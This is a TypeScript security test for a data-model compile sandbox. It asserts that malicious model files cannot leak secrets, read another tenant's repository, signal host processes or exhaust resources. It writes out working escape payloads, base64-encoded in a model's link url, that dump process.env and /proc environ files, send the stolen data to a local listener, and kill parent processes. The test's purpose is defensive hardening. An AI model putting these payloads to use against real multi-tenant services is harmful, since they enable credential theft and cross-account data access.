import { randomBytes } from 'node:crypto';
import http from 'node:http';
import type net from 'node:net';
import path from 'node:path';
import { bearer, newAccount, startApp, type Actor, type TestApp } from '../support/app.js';
import { Factories, waitFor } from '../support/factories.js';
import { startProcess, type Proc } from '../support/process.js';
import { REDIS_URL } from '../support/database.js';
import { Workers, isRunning } from '../support/workers.js';
import { ModelCompiler } from '../../src/modules/data-model/compiler/model-compiler.js';

/**
 * Model files that reach the compile child's own `process` and try to get out of it, through the
 * one door Cube's compiler leaves open: a dimension link's `url` is rebuilt by the compiler with a
 * `new Function` of the host realm (CubeSymbols.buildLinkSqlWithParams), so the link code runs
 * where `process`, `fetch` and `import()` are globals. A JS model and a plain YAML model (an
 * f-string `url: "{...}"`) carry the same payload, decoded with `atob` and run with `Function`.
 *
 * How a payload reports back: it throws an Error (which the compiler reports as a compile error,
 * so it lands in the validate answer or the build's errorText) and it sends what it read to a
 * listener of this test, over HTTP. So the test sees both what a sandboxed payload could say and
 * whether anything got out. Before payloads that report asynchronously throw, they hold the child
 * open (a compile child exits once it answers) so their report has time to leave.
 *
 * The attacker holds only SchemaUpdateDevBranches on one deployment of its own account; the victim
 * is another account's deployment, whose repository is beside the attacker's under REPOS_DIR. The
 * API runs as a process of its own (so a signal to it is seen, not suffered by the test runner),
 * and builds run on a real worker process.
 */

const SECRET = `model-sandbox-secret-${randomBytes(12).toString('hex')}`;

interface Target {
  port: number;
  /** The pid of the process that compiles (the API, or the worker). */
  pid: number;
  /** Host paths a payload tries to read. */
  paths: string[];
}

/** The escapes, as JS run in the compile child's realm. `hold()` keeps the child alive a while. */
const ESCAPES: Record<string, (t: Target) => string> = {
  tcp: ({ port }) => `
    report('tcp', 'fetch reached the listener');
    import('node:net').then((net) => net.connect(${port}, '127.0.0.1').on('error', () => {}));
    hold();
    throw new Error('escape tcp: tried');`,
  read: ({ paths }) => `
    import('node:fs').then((fs) => {
      const got = ${JSON.stringify(paths)}.map((p) => {
        try {
          return p + '=' + (fs.statSync(p).isDirectory() ? fs.readdirSync(p).join(',') : fs.readFileSync(p, 'utf8'));
        } catch (e) {
          return p + '!' + e.code;
        }
      });
      report('read', got.join('\\n'));
    });
    hold();
    throw new Error('escape read: env ' + JSON.stringify(process.env));`,
  signal: ({ pid }) => `
    const sent = [];
    for (const target of [process.ppid, ${pid}]) {
      try {
        process.kill(target, 'SIGKILL');
        sent.push(target + ' killed');
      } catch (e) {
        sent.push(target + ' ' + e.code);
      }
    }
    report('signal', sent.join(', '));
    hold();
    throw new Error('escape signal: ' + sent.join(', '));`,
  worker: ({ port }) => `
    import('node:worker_threads').then((w) => {
      new w.Worker("fetch('http://127.0.0.1:${port}/from-worker').catch(() => {})", { eval: true });
    });
    hold();
    throw new Error('escape worker: tried');`,
  memory: () => `
    const held = [];
    try {
      for (let i = 0; i < 8; i++) held.push(Buffer.alloc(256 * 1024 * 1024, 1));
    } catch (e) {
      throw new Error('escape memory: refused after ' + held.length * 256 + ' MB');
    }
    report('memory', held.length * 256 + ' MB');
    hold();
    throw new Error('escape memory: allocated ' + held.length * 256 + ' MB');`,
  loop: () => `for (;;) {}`,
  exit: () => `process.exit(78);`,
};

/** The payload's helpers, then the escape. */
function payload(escape: string, t: Target): string {
  return `
    const report = (what, text) => {
      try {
        fetch('http://127.0.0.1:${t.port}/' + what, { method: 'POST', body: String(text) }).catch(() => {});
      } catch (e) {}
    };
    const hold = () => {
      const exit = process.exit;
      process.exit = () => {};
      setTimeout(() => exit(0), 3000);
    };
    ${ESCAPES[escape](t)}`;
}

const b64 = (text: string) => Buffer.from(text).toString('base64');

/** A JS model whose dimension link runs `code` in the compile child's realm. */
const jsModel = (code: string) => `cube('escape_js', {
  sql_table: 't',
  measures: { count: { type: 'count' } },
  dimensions: {
    id: {
      sql: 'id',
      type: 'number',
      primary_key: true,
      links: [{ name: 'go', label: 'go', url: Function(atob('${b64(code)}'))() }],
    },
  },
});
`;

/** The same through a plain YAML model: an f-string url is a Python expression turned into JS. */
const yamlModel = (code: string) => `cubes:
  - name: escape_yml
    sql_table: t
    measures:
      - name: count
        type: count
    dimensions:
      - name: id
        sql: id
        type: number
        primary_key: true
        links:
          - name: go
            label: go
            url: "{Function(atob('${b64(code)}'))()}"
`;

const FLAVOURS = [
  { flavour: 'JS', path: '/model/cubes/escape.js', model: jsModel },
  { flavour: 'YAML', path: '/model/cubes/escape.yml', model: yamlModel },
];

const GOOD = {
  JS: "cube('escape_js', { sql_table: 't', measures: { count: { type: 'count' } } });\n",
  YAML: 'cubes:\n  - name: escape_yml\n    sql_table: t\n    measures:\n      - name: count\n        type: count\n',
};

/** The escapes that leave the compile running, tried one after the other in one compile. */
// The signal last: killing the sandbox's init (its ppid) ends the compile.
const TOGETHER = ['tcp', 'read', 'worker', 'memory', 'signal'];
ESCAPES.together = (t) => `
  const failures = [];
  ${TOGETHER.map((e) => `try {${ESCAPES[e](t)}\n} catch (e) { failures.push(String(e && e.message)); }`).join('\n')}
  throw new Error(failures.join(' | '));`;

/**
 * The cases, each a validate on the API and a build on a worker: each flavour with all the escapes
 * that leave the compile running, together (the doors differ by flavour); the endless loop and the
 * exit once each (the sandbox ends a compile the same way whichever file loops or exits), in one
 * flavour each.
 */
const CASES = [
  ...FLAVOURS.map((f) => ({ ...f, escape: 'together' })),
  { ...FLAVOURS[0], escape: 'loop' },
  { ...FLAVOURS[1], escape: 'exit' },
];

/**
 * What must never come back: the secret in the processes' environment, another repository's
 * files, 2 GB granted, a signal delivered to the process that compiles (`pid`). (Inside the sandbox
 * `process.ppid` is the sandbox's own init, which a signal from inside cannot kill.)
 */
function expectNothingLeaked(text: string, pid: number): void {
  expect(text).not.toContain(SECRET);
  expect(text).not.toContain('refs/heads');
  expect(text).not.toMatch(/bare = true/);
  expect(text).not.toMatch(/allocated 2048 MB/);
  expect(text).not.toContain(`${pid} killed`);
}

describe('model files run inside the compile sandbox', () => {
  let t: TestApp;
  let attacker: Actor;
  let deploymentId: number;
  let victimRepo: string;
  let listener: http.Server;
  let port: number;
  /** Every TCP connection the listener accepted, and the requests it read. */
  let connections = 0;
  const hits: string[] = [];

  const base = () => `/build/api/v1/deployments/${deploymentId}`;
  const targetFor = (pid: number): Target => ({
    port,
    pid,
    paths: [
      '/proc/1/environ',
      `/proc/${pid}/environ`,
      victimRepo,
      path.join(victimRepo, 'HEAD'),
      path.join(victimRepo, 'config'),
      t.config.dataModel.reposDir,
    ],
  });

  beforeAll(async () => {
    listener = http.createServer((req, res) => {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk.toString()));
      req.on('end', () => {
        hits.push(`${req.url} ${body.slice(0, 2000)}`);
        res.end('ok');
      });
    });
    listener.on('connection', (socket: net.Socket) => {
      connections += 1;
      socket.on('error', () => undefined);
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as net.AddressInfo).port;

    // This process sets up and hands jobs to Redis; the API under attack and the worker are processes.
    t = await startApp({ RUN_JOBS_IN_PROCESS: 'false' });
    const make = new Factories(t.app, t.admin);
    const victim = await newAccount(t, `victim${randomBytes(3).toString('hex')}`);
    const victimDeployment = await make.deployment({ by: victim });
    victimRepo = path.join(t.config.dataModel.reposDir, `${victimDeployment.id}.git`);
    deploymentId = (await make.deployment()).id;
    const role = await make.role({
      policies: [
        {
          resourceType: 'Deployment',
          actions: ['SchemaUpdateDevBranches', 'DeploymentRead'],
          resources: [String(deploymentId)],
        },
      ],
    });
    attacker = await make.user();
    await t
      .http()
      .put(`/api/v1/roles/${role.id}/users/${attacker.userId}`)
      .set(bearer(t.admin.token))
      .send({})
      .expect(204);
    await t.http().post(`${base()}/dev-mode`).set(bearer(attacker.token)).send({}).expect(200);
  });

  afterAll(async () => {
    await t?.close();
    await new Promise((resolve) => listener?.close(resolve));
  });

  /** Env of the processes under attack: the test's database, Redis and repositories, and the secret. */
  const processEnv = (): Record<string, string> => ({
    NODE_ENV: 'test',
    LOG_LEVEL: 'info',
    DATABASE_URL: t.databaseUrl,
    REDIS_URL,
    QUEUE_PREFIX: t.config.queue.prefix,
    REPOS_DIR: t.config.dataModel.reposDir,
    SECRETS_KEY: t.config.secretsKey.toString('base64'),
    OUTBOX_RELAY_INTERVAL_MS: '600000',
    RATE_LIMIT_MAX: '1000000',
    // From the job on (the child has loaded the compiler by then): the endless loops end sooner.
    MODEL_COMPILE_TIMEOUT_MS: '4000',
    // A child started per compile (single-use either way): kept children would each compile the
    // warm-up model first, seconds of CPU per escape tried here.
    MODEL_COMPILE_POOL_SIZE: '0',
    // As every test app (test/support/app.ts): the test runner's processes use the CPU too.
    SANDBOX_NICENESS: '0',
    MODEL_SANDBOX_TEST_SECRET: SECRET,
  });

  const writeFile = async (filePath: string, content: string) =>
    t
      .http()
      .put(`${base()}/data-model/files`)
      .set(bearer(attacker.token))
      .send({ files: [{ path: filePath, content }] })
      .expect(200);

  describe('validate, on an API process', () => {
    let api: Proc;
    let apiPort: number;

    const validate = async () => {
      const res = await fetch(`http://127.0.0.1:${apiPort}${base()}/data-model/validate?devMode=true`, {
        headers: bearer(attacker.token),
      });
      return { status: res.status, body: (await res.json()) as Record<string, unknown> };
    };

    beforeAll(async () => {
      api = startProcess('dist/src/main.js', { ...processEnv(), PORT: '0', HOST: '127.0.0.1' });
      apiPort = await api.listening(60_000);
    });
    afterAll(async () => {
      if (api && isRunning(api)) {
        api.child.kill('SIGTERM');
        await api.exit;
      }
    });

    it.each(CASES)('$flavour model, $escape: a clean compile error, nothing out', async (c) => {
      await writeFile(c.path, c.model(payload(c.escape, targetFor(api.child.pid!))));
      const attack = await validate();
      expect(attack.status).toBe(200);
      expect(attack.body).toMatchObject({ valid: false, cubesCount: 0, mode: 'dev_mode' });
      expect((attack.body.errors as unknown[]).length).toBeGreaterThan(0);
      expectNothingLeaked(JSON.stringify(attack.body), api.child.pid!);

      // The API is up, and the next compile of a good model works.
      expect(isRunning(api)).toBe(true);
      await writeFile(c.path, GOOD[c.flavour as keyof typeof GOOD]);
      const good = await validate();
      expect(good).toMatchObject({ status: 200, body: { valid: true, errors: [] } });
      expect(isRunning(api)).toBe(true);
      expect(hits).toEqual([]);
      expect(connections).toBe(0);
    });

    // The good model above is compiled once, then its verdict is reused (same tree): after every
    // escape, a model no compile has seen still compiles.
    it('compiles a new good model after all of them', async () => {
      await writeFile('/model/cubes/after.yml', GOOD.YAML.replace('escape_yml', 'after_validates'));
      expect(await validate()).toMatchObject({ status: 200, body: { valid: true, errors: [] } });
      expect(isRunning(api)).toBe(true);
    });
  });

  describe('builds, on a worker process', () => {
    let workers: Workers;
    let worker: Proc;

    const status = async () =>
      (
        await t
          .http()
          .get(`/api/v1/deployments/${deploymentId}/build-status`)
          .set(bearer(attacker.token))
          .expect(200)
      ).body as Record<string, unknown>;
    /** Commits the dev branch and waits (bounded) for the build of that commit to end. */
    const commitAndBuild = async () => {
      const before = (await status()).buildJobId;
      await t.http().post(`${base()}/commit`).set(bearer(attacker.token)).send({}).expect(200);
      return waitFor(
        status,
        (s) => s.buildJobId !== before && s.status !== 'queued' && s.status !== 'building',
        120_000,
        250,
      );
    };

    beforeAll(async () => {
      workers = await Workers.open(t, processEnv());
      worker = await workers.start();
    });
    afterAll(async () => {
      await workers?.close();
    });

    it.each(CASES)('$flavour model, $escape: the build fails cleanly, nothing out', async (c) => {
      await writeFile(c.path, c.model(payload(c.escape, targetFor(worker.child.pid!))));
      const attack = await commitAndBuild();
      expect(attack).toMatchObject({ status: 'failed', mode: 'dev_mode' });
      expect(attack.errorText).toEqual(expect.any(String));
      expectNothingLeaked(JSON.stringify(attack), worker.child.pid!);

      expect(isRunning(worker)).toBe(true);
      await writeFile(c.path, GOOD[c.flavour as keyof typeof GOOD]);
      expect(await commitAndBuild()).toMatchObject({ status: 'built', errorText: null });
      expect(isRunning(worker)).toBe(true);
      expect(hits).toEqual([]);
      expect(connections).toBe(0);
    });

    it('builds a new good model after all of them', async () => {
      await writeFile('/model/cubes/after.yml', GOOD.YAML.replace('escape_yml', 'after_builds'));
      expect(await commitAndBuild()).toMatchObject({ status: 'built', errorText: null });
      expect(isRunning(worker)).toBe(true);
    });
  });
});

describe('without bubblewrap', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startApp({ SANDBOX_BWRAP_PATH: '/nonexistent/bwrap', MODEL_COMPILE_POOL_SIZE: '1' });
  });
  afterAll(() => t?.close());

  it('answers validate with 503 compiler_unavailable saying why, and compiles nothing', async () => {
    const make = new Factories(t.app, t.admin);
    const { id } = await make.deployment();
    const res = await t
      .http()
      .get(`/build/api/v1/deployments/${id}/data-model/validate`)
      .set(bearer(t.admin.token));
    expect(res.status).toBe(503);
    expect(res.body).toMatchObject({
      code: 'compiler_unavailable',
      message: expect.stringContaining('bubblewrap (bwrap, Debian package bubblewrap) is not installed'),
    });
    expect(t.app.get(ModelCompiler).stats().started).toBe(0);
  });
});
